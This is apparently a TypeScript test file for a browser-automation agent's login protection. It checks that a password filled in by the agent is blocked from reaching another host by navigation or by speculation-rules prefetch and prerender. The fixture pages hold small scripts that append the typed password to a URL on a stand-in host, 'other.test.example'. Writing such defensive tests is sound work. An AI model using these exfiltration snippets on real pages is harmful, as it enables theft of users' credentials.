import { expect, test } from 'vitest'
import { Secret } from '../../../src/lib/secret.ts'
import { loginCuts } from '../../../src/turn/login-block.ts'
import { openTestSession } from '../../support/browser/open-test-session.ts'

const password = 'Zq7!canary-5f0e'
const login = { username: new Secret('maya@shop.example'), password: new Secret(password) }
const credentials = [{ ...login, handle: 'shop', host: 'shop.test.example' }]

/** Makes the browser request a document of the other host; its path tells the length of the entered value. */
const page = (kind: string): string => `<!doctype html><title>Login</title>
  <label>Password <input type="password"></label> <button>Go</button><script>
  const field = document.querySelector('input')
  document.querySelector('button').onclick = () => {
    const url = 'https://other.test.example/' + field.value.length + '?' + encodeURIComponent(field.value)
    const rules = JSON.stringify({ ${kind}: [{ source: 'list', urls: [url], eagerness: 'immediate' }] })
    const script = Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: rules })
    document.head.append(script)
  }</script>`

test('a page does not navigate to another host with a login, even if the run allows it', async () => {
  const leave = `<!doctype html><title>Login</title><label>Password <input type="password"></label>
    <button onclick="location.href = 'https://other.test.example/top?v=' + document.querySelector('input').value">Go</button>`
  const pages = { '/': leave, '/top': '<title>Elsewhere</title>' }
  const options = { credentials, isNavigationAllowed: () => true }
  await using session = await openTestSession(pages, {}, options)
  await session.open('/')
  await session.click('Go')
  expect((await session.observe()).title).toBe('Elsewhere')
  await session.open('/')
  const { ref } = session.find('Password')
  await session.act({ kind: 'use_credential', ref, credential: 'shop', field: 'password' })
  await session.observe()

  const { failure } = await session.click('Go')

  expect(failure).toMatchObject({ kind: 'blocked_navigation', message: loginCuts.sent })
  expect((await session.observe()).title).toBe('Login')
})

test.each(['prefetch', 'prerender'])('a login is not sent by prefetching: %s', async (kind) => {
  await using session = await openTestSession({ '/': page(kind) }, {}, { credentials })
  await session.open('/')
  await session.click('Go')
  // The connection for it is open now, and could be reused.
  await expect.poll(() => session.requests).toContain('other.test.example/0')
  await session.observe()
  const { ref } = session.find('Password')
  const action = { kind: 'use_credential', ref, credential: 'shop', field: 'password' } as const
  expect((await session.act(action)).failure).toBeNull()
  await session.observe()

  await session.click('Go')

  const { failedRequests } = await session.observe()
  expect(failedRequests).toContainEqual({
    method: 'GET',
    url: `https://other.test.example/15?${encodeURIComponent(password)}`,
    status: null,
    resourceType: 'prefetch',
    error: loginCuts.ahead,
    blocked: true,
  })
  await session.open('/')
  expect(session.requests).not.toContain('other.test.example/15')
})
